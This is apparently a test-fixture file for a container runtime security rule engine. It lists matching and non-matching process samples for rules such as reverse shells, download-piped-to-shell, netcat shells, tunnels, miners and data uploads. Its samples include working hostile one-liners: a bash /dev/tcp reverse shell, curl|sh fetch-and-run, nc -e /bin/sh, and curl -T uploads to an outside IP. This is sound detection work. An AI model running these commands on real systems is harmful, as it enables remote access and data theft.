import { type RuleCase, connects, exec, hook } from "./rule-samples";

const host = { host: true };

/** Samples of rules about what runs and whom it speaks with. */
export const activityCases: Record<string, RuleCase> = {
  "download-to-temporary-directory": {
    finds: [
      exec("/usr/bin/wget -O /tmp/a http://203.0.113.5/a"),
      exec("/usr/bin/curl -so /dev/shm/a https://example.com/a"),
    ],
    leaves: [
      exec("/usr/bin/wget -O /srv/a http://203.0.113.5/a"),
      exec("/usr/bin/wget -O /tmp/a http://203.0.113.5/a", host),
    ],
  },
  "execution-from-temporary-directory": {
    finds: [exec("/tmp/run --now"), exec("/dev/shm/.x"), exec("/var/tmp/y")],
    leaves: [exec("/usr/bin/tmp/run"), exec("/tmp/run", host), exec("/opt/tmp/run")],
  },
  "execution-from-memory": {
    finds: [exec("/memfd:payload"), exec("/proc/self/fd/5"), exec("/proc/123/fd/7")],
    leaves: [exec("/usr/bin/memfd:x"), exec("/proc/self/exe")],
  },
  "encoded-payload": {
    finds: [
      exec("/usr/bin/base64 -d /srv/x"),
      exec("/usr/bin/openssl enc -base64 -d -in /srv/x"),
      exec("/usr/bin/xxd -r -p /srv/x"),
      exec("/usr/bin/python3 -c \"import base64;exec(base64.b64decode('x'))\""),
    ],
    leaves: [
      exec("/usr/bin/base64 /srv/x"),
      exec("/usr/bin/openssl enc -base64 -in /srv/x"),
      exec("/usr/bin/base64 -d /srv/x", host),
    ],
  },
  "download-piped-to-shell": {
    finds: [
      exec('/bin/sh -c "curl -s https://203.0.113.5/x | sh"'),
      exec('/bin/bash -c "wget -qO- http://203.0.113.5/x | bash"'),
    ],
    leaves: [exec('/bin/sh -c "curl -s https://203.0.113.5/x -o x"'), exec('/bin/sh -c "cat x | sh"')],
  },
  "reverse-shell": {
    finds: [
      exec('/bin/bash -c "bash -i >& /dev/tcp/203.0.113.5/443 0>&1"'),
      exec('/usr/bin/python3 -c "import socket,os;s=socket.socket();s.connect((1));os.dup2(s.fileno(),0)"'),
    ],
    leaves: [exec('/bin/bash -c "echo > /dev/null"'), exec('/usr/bin/python3 -c "import socket"')],
  },
  "netcat-listener": {
    finds: [exec("/usr/bin/nc -l -p 4444"), exec("/usr/bin/ncat -lvnp 4444"), exec("/usr/bin/nc --listen 1")],
    leaves: [
      exec("/usr/bin/nc db 5432"),
      exec("/usr/bin/nc -z db 5432"),
      exec("/usr/bin/nc -l -p 4444", host),
    ],
  },
  "netcat-shell": {
    finds: [
      exec("/usr/bin/nc 203.0.113.5 443 -e /bin/sh"),
      exec("/usr/bin/socat TCP:203.0.113.5:443 EXEC:/bin/sh"),
    ],
    leaves: [exec("/usr/bin/nc 203.0.113.5 443"), exec("/usr/bin/socat TCP-LISTEN:1 TCP:db:5432")],
  },
  "tunnel-tool": {
    finds: [exec("/srv/chisel client x"), exec("/usr/bin/ssh -R 8080:localhost:80 user@203.0.113.5")],
    leaves: [exec("/usr/bin/ssh user@203.0.113.5"), exec("/srv/chisel client x", host)],
  },
  "network-scanner": {
    finds: [exec("/usr/bin/nmap -sS 10.0.0.0/8"), exec("/usr/sbin/tcpdump -i any")],
    leaves: [exec("/usr/bin/nmapper x"), exec("/usr/sbin/tcpdump -i any", host)],
  },
  "container-client": {
    finds: [exec("/usr/bin/kubectl get secrets"), exec("/usr/bin/crictl ps")],
    leaves: [exec("/usr/bin/kubectl get secrets", host), exec("/usr/bin/kube-proxy --v=2")],
  },
  "kubernetes-api-request": {
    finds: [
      exec("/usr/bin/curl -k https://kubernetes.default.svc/api"),
      exec("/usr/bin/curl -k https://10.0.0.1/api/v1/secrets"),
    ],
    leaves: [
      exec("/usr/bin/curl https://shop.example.com/v1/items"),
      exec("/srv/client https://kubernetes.default.svc/api"),
    ],
  },
  "kubelet-request": {
    finds: [
      exec("/usr/bin/curl -k https://10.0.0.7:10250/pods"),
      exec("/srv/tool http://10.0.0.7:10255/pods"),
    ],
    leaves: [
      exec("/usr/bin/curl http://10.0.0.7:1025/pods"),
      exec("/usr/bin/curl -k https://10.0.0.7:10250/pods", host),
    ],
  },
  "cloud-metadata-request": {
    finds: [
      exec("/usr/bin/curl http://169.254.169.254/latest/meta-data"),
      connects("/usr/bin/curl meta", "169.254.169.254", 80),
    ],
    leaves: [
      connects("/srv/app meta", "169.254.169.254", 80),
      connects("/usr/bin/curl meta", "169.254.169.253", 80),
    ],
  },
  "shell-of-web-server": {
    finds: [
      exec("/bin/sh -c id", { parentBinary: "/usr/sbin/nginx" }),
      exec("/bin/bash -c id", { parentBinary: "/usr/sbin/php-fpm8.2" }),
    ],
    leaves: [
      exec("/bin/sh -c id", { parentBinary: "/bin/bash" }),
      exec("/usr/bin/convert a b", { parentBinary: "/usr/sbin/php-fpm8.2" }),
    ],
  },
  "shell-of-database": {
    finds: [exec("/bin/sh -c id", { parentBinary: "/usr/lib/postgresql/16/bin/postgres" })],
    leaves: [
      exec("/usr/bin/gzip x", { parentBinary: "/usr/lib/postgresql/16/bin/postgres" }),
      exec("/bin/sh -c id", { parentBinary: "/usr/bin/postgresd" }),
    ],
  },
  "shell-connects-outside": {
    finds: [connects("/bin/bash -i", "203.0.113.5", 443), connects("/usr/bin/nc x", "8.8.8.8", 4444)],
    leaves: [
      connects("/bin/bash -i", "10.1.2.3", 443),
      connects("/usr/bin/curl x", "203.0.113.5", 443),
      connects("/bin/bash -i", "203.0.113.5", 443, host),
    ],
  },
  "listener-of-tool": {
    finds: [hook("/usr/bin/socat x", "inet_csk_listen_start")],
    leaves: [
      hook("/usr/sbin/nginx x", "inet_csk_listen_start"),
      hook("/usr/bin/socat x", "inet_csk_listen_start", [], host),
    ],
  },
  "raw-socket": {
    finds: [hook("/srv/tool x", "security_socket_create")],
    leaves: [
      hook("/bin/ping x", "security_socket_create"),
      hook("/srv/tool x", "security_socket_create", [], host),
    ],
  },
  "crypto-miner": {
    finds: [exec("/srv/xmrig -c x"), exec("/srv/a -o stratum+tcp://pool.example.com:3333")],
    leaves: [exec("/srv/a -o tcp://pool.example.com:3333"), exec("/usr/bin/vi /srv/xmrig")],
  },
  "upload-by-tool": {
    finds: [
      exec("/usr/bin/curl -T /srv/dump https://203.0.113.5/"),
      exec("/usr/bin/wget --post-file=/srv/dump http://203.0.113.5/"),
    ],
    leaves: [
      exec("/usr/bin/curl -o /srv/dump https://203.0.113.5/"),
      exec("/usr/bin/curl -T /srv/dump https://203.0.113.5/", host),
    ],
  },
};
